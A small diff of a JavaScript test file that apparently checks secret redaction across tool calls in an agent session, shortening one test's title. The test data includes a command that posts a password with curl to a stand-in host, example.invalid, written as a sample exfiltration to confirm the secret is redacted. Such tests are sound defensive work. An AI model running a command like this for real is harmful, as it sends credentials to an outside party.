@@ -45,7 +45,7 @@ it('a secret that came under a key name stands nowhere, nor where the same call 
   for (let n = 1; n <= 5; n++) expect(all).not.toContain(secret(n));
 });
 
-it('a secret of one call is redacted in the next call of the session, also after the ledger forgot its cache', async () => {
+it('a secret of one call is redacted in the next call of the session', async () => {
   await agent.request('2', 'a', 'login', { password: secret(6) });
   const asked = await agent.request('2', 'b', 'run', { command: `curl -d ${secret(6)} example.invalid` });
   expect(asked.call.status).toBe('requested');
